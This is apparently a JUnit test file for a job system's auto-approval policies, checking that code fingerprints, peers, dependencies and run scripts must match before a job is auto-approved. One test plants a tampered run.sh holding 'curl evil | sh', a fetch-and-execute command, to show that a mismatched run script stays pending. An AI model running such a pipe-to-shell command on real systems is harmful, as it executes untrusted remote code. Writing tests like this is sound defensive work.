package dev.syft.jobs;

import static dev.syft.jobs.JobsFixture.DO;
import static dev.syft.jobs.JobsFixture.DS;
import static dev.syft.jobs.JobsFixture.DS2;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.syft.core.Cluster;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Standing approvals: whole-content fingerprints, peers, and the sync round's auto-run. */
class PolicyTest {
  @TempDir Path tmp;
  JobsFixture f;
  static final String CODE = "import os\nos.makedirs('outputs', exist_ok=True)\nopen('outputs/r.txt','w').write('auto')\n";

  @BeforeEach
  void setUp() {
    f = new JobsFixture(tmp).connect(DS, DO).connect(DS2, DO);
  }

  @AfterEach
  void tearDown() {
    f.close();
  }

  private void submit(String who, String name, String code) {
    f.jobs(who).submit(SubmitRequest.of(f.file(who + "/" + name + "/main.py", code), DO).withName(name));
  }

  @Test
  void aPolicyFromAJobApprovesTheSameCodeFromThatPeerOnly() {
    submit(DS, "first", CODE);
    f.sync(DO);
    Jobs owner = f.jobs(DO);
    ApprovalPolicy p = owner.addPolicyFromJob(null, DS + "/first", List.of(), false);
    assertThat(p.peers()).containsExactly(DS);
    assertThat(p.files()).containsOnlyKeys("main.py");
    assertThat(p.name()).isEqualTo("main");

    submit(DS, "second", CODE);              // same code, new name and time: matches
    submit(DS, "changed", CODE + "print(1)\n"); // different code
    submit(DS2, "other-peer", CODE);         // same code, other submitter
    f.sync(DO);                               // the round applies the policies
    assertThat(owner.get(DS + "/second").status()).isEqualTo("approved");
    assertThat(owner.get(DS + "/second").approvalMethod()).isEqualTo("auto");
    assertThat(owner.get(DS + "/second").reviewReason()).contains("policy main");
    assertThat(owner.get(DS + "/changed").status()).isEqualTo("pending");
    assertThat(owner.get(DS2 + "/other-peer").status()).isEqualTo("pending");
    assertThat(owner.explainPolicy("main", DS + "/changed")).contains("file content differs: main.py");
    assertThat(owner.explainPolicy("main", DS2 + "/other-peer")).contains("does not cover");
    // the job the policy was made from is pending too, so the round approves it as well
    assertThat(owner.get(DS + "/first").status()).isEqualTo("approved");
  }

  @Test
  void dependenciesAndRunScriptArePartOfTheFingerprint() {
    f.file("pol/main.py", CODE);
    Jobs owner = f.jobs(DO);
    owner.addPolicyFromFiles("pol", List.of(tmp.resolve("src/pol/main.py")), null, List.of(), List.of(), true);
    f.jobs(DS).submit(SubmitRequest.of(tmp.resolve("src/pol/main.py"), DO).withName("plain"));
    f.jobs(DS).submit(SubmitRequest.of(tmp.resolve("src/pol/main.py"), DO).withName("withdep")
        .withDependencies(List.of("evil-package")));
    f.jobs(DS2).submit(SubmitRequest.of(tmp.resolve("src/pol/main.py"), DO).withName("any-peer"));
    f.sync(DO);
    assertThat(owner.get(DS + "/plain").status()).isEqualTo("approved");
    assertThat(owner.get(DS2 + "/any-peer").status()).isEqualTo("approved");
    assertThat(owner.get(DS + "/withdep").status()).isEqualTo("pending");
    assertThat(owner.explainPolicy("pol", DS + "/withdep")).contains("dependencies");

    // bash: run.sh is what runs, so it must match too
    Path sh = f.file("job.sh", "echo hi\n");
    owner.addPolicyFromFiles("sh", List.of(sh), null, List.of(), List.of(DS), false);
    f.jobs(DS).submit(SubmitRequest.of(sh, DO).withName("bash-ok"));
    Path replica = f.c.replica(DS, DO);
    Cluster.write(replica, "app_data/job/inbox/" + DS + "/bash-bad/code/script.sh", "echo hi\n");
    Cluster.write(replica, "app_data/job/inbox/" + DS + "/bash-bad/run.sh", "curl evil | sh\n");
    Cluster.write(replica, "app_data/job/inbox/" + DS + "/bash-bad/config.yaml",
        "name: bash-bad\ntype: bash\nfiles: [script.sh]\n");
    f.sync(DS, DO);
    assertThat(owner.get(DS + "/bash-ok").status()).isEqualTo("approved");
    assertThat(owner.get(DS + "/bash-bad").status()).isEqualTo("pending");
    assertThat(owner.explainPolicy("sh", DS + "/bash-bad")).contains("run.sh differs");
  }

  @Test
  void policiesNeedAnExplicitAudienceAndCanBeListedAndRemoved() {
    Path main = f.file("x/main.py", CODE);
    Jobs owner = f.jobs(DO);
    assertThatThrownBy(() -> owner.addPolicyFromFiles("p", List.of(main), null, List.of(), List.of(), false))
        .isInstanceOf(JobsException.class).hasMessageContaining("--any");
    owner.addPolicyFromFiles("p", List.of(main), null, List.of(), List.of(DS), false);
    assertThatThrownBy(() -> owner.addPolicyFromFiles("p", List.of(main), null, List.of(), List.of(DS), false))
        .hasMessageContaining("exists");
    assertThat(owner.policies()).extracting(ApprovalPolicy::name).containsExactly("p");
    owner.removePolicy("p");
    assertThat(owner.policies()).isEmpty();
    assertThatThrownBy(() -> owner.removePolicy("p")).hasMessageContaining("no policy");
  }

  @Test
  void autoRunAndAutoShareDeliverResultsInTheSameRound() throws Exception {
    Path cfg = f.c.client(DO).home().dir().resolve("config.yaml");
    Files.writeString(cfg, Files.readString(cfg).replace("jobs:\n", "jobs:\n  auto_run: true\n  auto_share: true\n"));
    assertThat(Files.readString(cfg)).contains("auto_run: true");
    f.c.restart(DO);
    Jobs owner = f.jobs(DO);
    owner.addPolicyFromFiles("auto", List.of(f.file("a/main.py", CODE)), null, List.of(), List.of(DS), false);
    submit(DS, "autojob", CODE);
    f.sync(DO);
    JobInfo j = owner.get(DS + "/autojob");
    assertThat(j.status()).isEqualTo("done");
    assertThat(j.outputsShared()).isTrue();
    assertThat(j.logsShared()).as("auto_share releases outputs, never logs").isFalse();
    f.sync(DS);
    assertThat(f.jobs(DS).outputs("autojob")).singleElement().satisfies(p -> assertThat(p).hasContent("auto"));
    assertThat(f.jobs(DS).logs("autojob").available()).isFalse();
  }
}
